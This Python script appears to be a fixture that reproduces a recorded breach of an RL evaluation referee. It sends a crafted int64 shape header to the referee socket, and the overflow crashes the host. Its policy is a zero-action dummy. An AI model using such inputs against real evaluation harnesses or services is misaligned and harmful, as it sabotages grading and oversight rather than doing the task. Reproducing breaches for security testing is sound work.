"""An answer header whose shape is [2**32, 2**32] (issue 15, breach 5): the product wraps to 0 in
int64, so no body is read, and reshaping the empty body raised ValueError in the host."""

import socket
import struct
import time

import numpy as np

ENV_ID = "CartPole-v1"

sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
sock.connect("referee.sock")
size = struct.unpack("<I", sock.recv(4, socket.MSG_WAITALL))[0]
sock.recv(size, socket.MSG_WAITALL)
header = b'{"dtype": "int64", "shape": [4294967296, 4294967296]}'
sock.sendall(struct.pack("<I", len(header)) + header)
time.sleep(3600)


def act(obs):
    return np.zeros(len(obs), dtype=np.int64)
